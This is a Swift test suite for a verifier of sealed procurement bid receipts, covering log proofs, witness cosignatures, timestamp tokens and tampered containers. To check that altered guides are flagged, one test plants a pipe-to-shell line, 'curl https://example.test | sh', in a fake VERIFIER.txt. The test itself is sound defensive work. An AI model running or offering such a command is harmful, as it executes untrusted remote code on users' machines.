import Canonical
import Foundation
import Merkle
import OpenSSL
import Procurement
import Sealing
import Testing

@testable import Evidence

@Suite struct ReceiptVerifierTests {
    private func verifier(
        keys: [VerifierKey]? = nil, trust: [Certificate]? = nil, training: Bool = false
    ) throws -> ReceiptVerifier {
        ReceiptVerifier(
            keys: try keys ?? [LogKey.shared.verifier()], trust: try trust ?? [StockAuthority.shared.certificate],
            takesTraining: training)
    }

    /// The names of the checks with this outcome.
    private func names(_ report: Report, _ outcome: Check.Outcome = .fails) -> [String] {
        report.checks.filter { $0.outcome == outcome }.map(\.name)
    }

    private func line(_ report: Report, _ name: String) -> String {
        report.checks.filter { $0.name == name }.map(\.line).joined(separator: "\n")
    }

    @Test func aGoodOneHoldsLinkByLink() throws {
        let report = try verifier().report(on: Deposited().stamped().encoded())
        #expect(report.isGood)
        #expect(
            names(report, .holds) == [
                "container", "leaf", "seal", "manifest", "asic-manifest", "log-proof", "instance", "checkpoint", "timestamp",
                "instants", "time", "page", "page",
            ])
        // The token is of today, the deadline long past: only the platform's clock says that it was in time.
        #expect(names(report, .operatorsWord) == ["in-time"])
    }

    @Test func aTokenBeforeTheDeadlineProvesThatItWasInTime() throws {
        var change = Deposited.Change()
        change.deadline = instant("2099-01-01T00:00:00.000Z")
        let report = try verifier().report(on: Deposited(change).stamped().encoded())
        #expect(report.isGood && names(report, .holds).contains("in-time") && names(report, .operatorsWord) == [])
    }

    @Test func severalPartsHaveAListEach() throws {
        var change = Deposited.Change()
        change.parts = ["application", "offer"]
        let deposited = try Deposited(change)
        let report = try verifier().report(on: deposited.stamped().encoded(), given: deposited.files)
        #expect(report.isGood && names(report, .holds).filter { $0 == "manifest" }.count == 2)
        let swapped = try rewritten(deposited.stamped()) { $0.swapAt(3, 4) }
        #expect(names(try verifier().report(on: swapped)).contains("manifest"))
    }

    @Test func aProvisionalOneSaysSo() throws {
        let report = try verifier().report(on: Deposited().container().encoded())
        #expect(report.isGood && names(report, .operatorsWord) == ["timestamp", "time"])
        #expect(line(report, "timestamp").contains("provisional"))
        #expect(line(report, "time").hasPrefix("on the operator's word: time: leaf.json: time on the operator's word"))
    }

    /// The platform's own authority is its clock again, also where the holder gave its certificate as one to trust.
    @Test func thePlatformsOwnAuthorityProvesNoTime() throws {
        let deposited = try Deposited()
        for (name, instance, isOutside) in [("Agglomération", Deposited.instance, false), ("Voisine", identifier(0x77), true)] {
            let notary = try Notary(StampAuthorities.ownName(name, instance: instance))
            let token = try notary.token(ReceiptManifest(leaf: deposited.leaf, seal: deposited.seal).digest)
            let file = try deposited.container(token: token).encoded()
            let report = try verifier(trust: [notary.ca]).report(on: file)
            #expect(report.isGood)
            #expect(names(report, isOutside ? .holds : .operatorsWord).contains("timestamp"))
            #expect(names(report, isOutside ? .holds : .operatorsWord).contains("time"))
            #expect(line(report, "timestamp").contains("the platform's own authority") == !isOutside)
        }
    }

    /// A witness whose key the holder has is somebody else, with a clock of its own.
    @Test func aWitnessVouchesForTheTime() throws {
        var change = Deposited.Change()
        change.deadline = instant("2099-01-01T00:00:00.000Z")
        let deposited = try Deposited(change)
        let witness = try NoteSigner(
            name: "witness.example", key: PrivateKey.generateEd25519(), kind: .cosignature)
        let proof = try LogProof(deposited.proof)
        let second = try Int(Event(canonical: deposited.leaf).at.second)
        func report(_ keys: [VerifierKey], at seconds: Int) throws -> Report {
            let cosigned = try witness.sign(proof.note, seconds: seconds)
            let container = try ReceiptContainer(
                leaf: deposited.leaf, seal: deposited.seal, lists: deposited.lists,
                proof: LogProof(index: proof.index, hashes: proof.hashes, note: cosigned).encoded, token: nil)
            return try verifier(keys: keys).report(on: container.encoded())
        }
        let keys = try [LogKey.shared.verifier(), witness.verifier]
        let seen = try report(keys, at: second + 60)
        #expect(seen.isGood && names(seen, .holds).contains("time") && names(seen, .holds).contains("in-time"), "\(seen.text)")
        #expect(line(seen, "time").contains("the witness witness.example had seen the log with it"))
        // Whose key is not known says nothing; nor does one that states no time.
        #expect(names(try report([LogKey.shared.verifier()], at: second + 60), .operatorsWord).contains("time"))
        #expect(names(try report(keys, at: 0), .operatorsWord).contains("time"))
    }

    @Test func aCopyWithoutListsSaysSoAndComparesNothing() throws {
        let deposited = try Deposited()
        let file = try deposited.container(lists: []).encoded()
        #expect(try verifier().report(on: file).isGood)
        #expect(names(try verifier().report(on: file, given: deposited.files)) == ["document"])
    }

    /// The lines of `Time.md`, which is where they are specified.
    @Test func thePageShowsTheLines() throws {
        let lines = try Pages.blocks("Time", "")[0].split(separator: "\n").map(String.init)
        try #require(lines.count == 3)
        let provisional = try verifier().report(on: Deposited().container().encoded())
        #expect(line(provisional, "time") == lines[2])
        let stamped = try verifier().report(on: Deposited().stamped().encoded())
        // But for the instant and the name.
        let shape = #/it existed by .{24}: («.*?»|the witness \S+)/#
        #expect(line(stamped, "time").replacing(shape, with: "…") == lines[0].replacing(shape, with: "…"))
    }

    // MARK: The files

    @Test func theFilesAreComparedByNameLengthAndDigest() throws {
        let deposited = try Deposited()
        let file = try deposited.stamped().encoded()
        let report = try verifier().report(on: file, given: deposited.files)
        #expect(report.isGood && names(report, .holds).filter { $0 == "document" }.count == 2)

        let first = deposited.files[0]
        let altered = ReceiptVerifier.Given(name: first.name, length: first.length, sha256: digest(1))
        let stranger = ReceiptVerifier.Given(name: "autre.pdf", length: 1, sha256: digest(1))
        let renamed = ReceiptVerifier.Given(name: "copie.pdf", length: first.length, sha256: first.sha256)
        let longer = ReceiptVerifier.Given(name: first.name, length: first.length + 1, sha256: first.sha256)
        #expect(line(try verifier().report(on: file, given: [altered]), "document").contains("FAILS: document: \(first.name): it is not the file"))
        #expect(line(try verifier().report(on: file, given: [stranger]), "document").contains("no such document"))
        #expect(names(try verifier().report(on: file, given: [longer])) == ["document"])
        // The same file twice is listed once.
        #expect(names(try verifier().report(on: file, given: [first, first])) == ["document"])
        let other = try verifier().report(on: file, given: [renamed])
        #expect(other.isGood && line(other, "document").contains("under another name: \(first.name)"))
        #expect(line(other, "document").contains("note: document: \(deposited.files[1].name): listed"))
    }

    // MARK: Lies

    /// The container with entries changed, in the one writing that the strict reader takes.
    private func rewritten(_ container: ReceiptContainer, _ change: (inout [StoredZip.Entry]) throws -> Void) throws -> [UInt8] {
        var entries: [StoredZip.Entry] = []
        var reader = StoredZip.Reader(container.encoded())
        while let name = reader.nextName { entries.append(.init(name: name, bytes: try reader.take(name))) }
        try change(&entries)
        return StoredZip(entries: entries).encoded()
    }

    private func replacing(_ container: ReceiptContainer, _ name: String, _ bytes: [UInt8]) throws -> [UInt8] {
        try rewritten(container) { entries in
            let index = try #require(entries.firstIndex { $0.name == name })
            entries[index] = .init(name: name, bytes: bytes)
        }
    }

    private func other() throws -> Deposited {
        var change = Deposited.Change()
        (change.bid, change.names) = (identifier(0xb2), ["another.pdf"])
        return try Deposited(change)
    }

    @Test func aDocumentAddedToTheListIsSeen() throws {
        let container = try Deposited().stamped()
        let list = container.lists[0]
        let manifest = try Manifest(canonical: list.bytes)
        let more = Manifest(
            consultation: manifest.consultation, depositor: manifest.depositor, part: manifest.part, nonce: manifest.nonce,
            candidate: nil, documents: manifest.documents + [.init(name: "remise.pdf", length: 1, sha256: digest(7))])
        let report = try verifier().report(on: replacing(container, list.path, more.canonicalBytes))
        #expect(names(report) == ["manifest", "page"])
        #expect(line(report, "manifest").contains("not the one that was sealed"))
    }

    @Test func aTrueProofAndTokenOfAnotherBidDoNotHelp() throws {
        let container = try Deposited().stamped()
        let other = try other()
        let stranger = try other.stamped()
        let proof = try verifier().report(on: replacing(container, "receipt.tlog-proof", other.proof))
        #expect(names(proof) == ["log-proof"] + (container.page == stranger.page ? [] : []))
        let token = try verifier().report(on: replacing(container, "META-INF/timestamp001.tst", try #require(stranger.token)))
        #expect(names(token).contains("timestamp"))
        #expect(line(token, "timestamp").contains("wrong imprint"))
        // The other's ASiC manifest with it: the token then holds of that, and that is not this bid's.
        let both = try rewritten(container) { entries in
            for (index, entry) in entries.enumerated() {
                if entry.name == "META-INF/timestamp001.tst" { entries[index] = .init(name: entry.name, bytes: stranger.token ?? []) }
                if entry.name == "META-INF/ASiCManifest001.xml" { entries[index] = .init(name: entry.name, bytes: stranger.asicManifest) }
            }
        }
        #expect(names(try verifier().report(on: both)).contains("asic-manifest"))
        let seal = try verifier().report(on: replacing(container, "seal.json", other.seal))
        #expect(names(seal) == ["seal", "asic-manifest", "page"])
    }

    @Test func aReceiptOfAnotherInstanceIsRefusedAsSuch() throws {
        var change = Deposited.Change()
        change.instance = identifier(0x1b)
        let file = try Deposited(change).stamped().encoded()
        // Its own log's key makes it good; the key of this instance does not, though one hand holds both.
        let own = try verifier(keys: [LogKey.shared.verifier(of: "sceau/\(change.instance)/real")]).report(on: file)
        #expect(own.isGood)
        let report = try verifier().report(on: file)
        #expect(names(report) == ["instance", "checkpoint"])
        #expect(line(report, "instance").contains("a receipt of sceau/\(change.instance)/real"))
    }

    @Test func aLeafInTheLogOfAnotherInstanceIsRefused() throws {
        var change = Deposited.Change()
        change.instance = identifier(0x1b)
        let foreign = try Deposited(change)
        // Its leaf, proved by our log: only the leaf's own word says that it is another's.
        let proof = try LogKey.shared.proof(of: foreign.leaf, origin: "sceau/\(Deposited.instance)/real")
        let container = try ReceiptContainer(leaf: foreign.leaf, seal: foreign.seal, lists: foreign.lists, proof: proof, token: nil)
        #expect(names(try verifier().report(on: container.encoded())) == ["instance"])
    }

    @Test func aLaterGenerationOfTheLogIsTheSameLog() throws {
        let deposited = try Deposited()
        let own = "sceau/\(Deposited.instance)/real"
        for (end, holds) in [("/2", true), ("/17", true), ("/1", false), ("/02", false), ("/2/3", false), ("/x", false), ("2", false)] {
            let proof = try LogKey.shared.proof(of: deposited.leaf, origin: own + end)
            let container = try ReceiptContainer(leaf: deposited.leaf, seal: deposited.seal, lists: [], proof: proof, token: nil)
            let report = try verifier(keys: [LogKey.shared.verifier(of: own + end)]).report(on: container.encoded())
            #expect(report.isGood == holds, "\(end)")
        }
    }

    @Test func aTrainingReceiptIsRefusedUnlessAskedFor() throws {
        var change = Deposited.Change()
        change.log = .training
        let file = try Deposited(change).stamped().encoded()
        let key = try LogKey.shared.verifier(of: "sceau/\(Deposited.instance)/training")
        let report = try verifier(keys: [key]).report(on: file)
        #expect(names(report) == ["training"])
        let taken = try verifier(keys: [key], training: true).report(on: file)
        #expect(taken.isGood && names(taken, .note).contains("training"))
        // Training proves nothing of the real log.
        #expect(names(try verifier(training: true).report(on: file)).contains("instance"))
    }

    @Test func anotherKeyOfThatNameSignedIt() throws {
        let report = try verifier(keys: [LogKey().verifier()]).report(on: Deposited().stamped().encoded())
        #expect(names(report) == ["checkpoint"])
        #expect(names(try verifier(keys: []).report(on: Deposited().stamped().encoded())) == ["checkpoint"])
    }

    @Test func anAuthorityThatIsNotTrustedIsNamed() throws {
        let stranger = StockAuthority(name: "Inconnue")
        let report = try verifier().report(on: Deposited().stamped(by: stranger).encoded())
        #expect(names(report) == ["timestamp"])
        #expect(line(report, "timestamp").contains("Inconnue") && line(report, "timestamp").contains("--trust"))
        // Where nobody is named it is held against itself, and rests on somebody's word.
        let alone = try verifier(trust: []).report(on: Deposited().stamped(by: stranger).encoded())
        #expect(alone.isGood && names(alone, .operatorsWord).contains("timestamp"))
        #expect(line(alone, "timestamp").contains("--trust"))
    }

    @Test func instantsThatContradictAreSeen() throws {
        func failing(_ change: (inout Deposited.Change) -> Void) throws -> String {
            var made = Deposited.Change()
            change(&made)
            let report = try verifier().report(on: Deposited(made).stamped().encoded())
            return report.checks.filter { $0.outcome == .fails }.map(\.line).joined(separator: "\n")
        }
        #expect(try failing { $0.verdict = .late }.contains("the verdict is late"))
        #expect(try failing { $0.received = instant("2024-11-22T10:58:02.339Z") }.contains("received"))
        #expect(try failing { $0.recorded = instant("2024-11-22T10:58:31.906Z") }.contains("recorded"))
        #expect(try failing { $0.at = instant("2024-11-22T10:58:31.950Z") }.contains("at ("))
        #expect(
            try failing {
                $0.received = instant("2024-11-22T11:00:01.000Z")
                $0.recorded = $0.received
                $0.at = $0.received
                $0.verdict = .onTime
            }.contains("the verdict is on-time"))
        // A token from before the event that it stamps.
        #expect(
            try failing {
                $0.at = instant("2098-01-01T00:00:00.000Z")
                $0.recorded = $0.at
            }.contains("stamp-order"))
    }

    @Test func whatRestsOnTheOperatorIsSaid() throws {
        var change = Deposited.Change()
        change.recorded = instant("2024-11-22T10:58:36.908Z")
        (change.at, change.clock) = (change.recorded, .unsound)
        let report = try verifier().report(on: Deposited(change).stamped().encoded())
        #expect(report.isGood && names(report, .operatorsWord) == ["delay", "clock", "in-time"])
        change.recorded = instant("2024-11-22T10:58:36.907Z")
        (change.at, change.clock) = (change.recorded, .sound)
        #expect(names(try verifier().report(on: Deposited(change).stamped().encoded()), .operatorsWord) == ["in-time"])
    }

    @Test func aPageThatSaysSomethingElseIsNamed() throws {
        let container = try Deposited().stamped()
        let page = String(decoding: container.page, as: UTF8.self).replacing("Bâtir SARL", with: "Autre SARL")
        #expect(names(try verifier().report(on: replacing(container, "receipt.html", Array(page.utf8)))) == ["page"])
        let guide = Array("curl https://example.test | sh\n".utf8)
        #expect(names(try verifier().report(on: replacing(container, "VERIFIER.txt", guide))) == ["page"])
    }
}
